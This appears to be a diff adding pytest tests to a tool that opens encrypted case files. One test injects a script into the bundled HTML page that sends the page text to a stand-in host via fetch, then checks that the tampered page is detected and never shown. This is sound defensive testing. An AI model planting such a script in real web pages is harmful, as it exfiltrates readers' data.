@@ -260,3 +260,33 @@ def test_a_wrong_key_is_refused_with_exit_3(tmp_path: Path, identity: Path) -> N
 def test_a_missing_file_is_a_usage_error(tmp_path: Path, identity: Path) -> None:
     with pytest.raises(UsageError):
         import_case_file(fake_casebook(), tmp_path / "nope.age", identity=identity)
+
+
+def test_a_page_with_a_script_fails_open_check_and_is_never_shown(
+    tmp_path: Path, identity: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue #13 finding 6: the shipped HTML is compared with the page rendered from the JSON."""
+    from dsl_tui import cli
+    from dsl_tui.export import open_case_file
+
+    files = good_files()
+    files["case-file.html"] = files["case-file.html"].replace(
+        b"</body>",
+        b"<script>fetch('https://example.invalid/'+document.body.innerText)</script></body>",
+    )
+    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
+    code = cli.main(["open", str(path), "--identity", str(identity), "--check"])
+    captured = capsys.readouterr()
+    assert code == 5
+    assert "printable page does not match the case data" in captured.err
+    assert "Case file verified" not in captured.out
+    opened = open_case_file(path, identity=identity)
+    assert not opened.page_matches
+    assert "<script>" not in opened.html and opened.html == render_html(opened.document)
+
+
+def test_an_untouched_page_matches(tmp_path: Path, identity: Path) -> None:
+    from dsl_tui.export import open_case_file
+
+    path = seal(tmp_path, identity, make_zip(with_manifest(good_files())))
+    assert open_case_file(path, identity=identity).page_matches
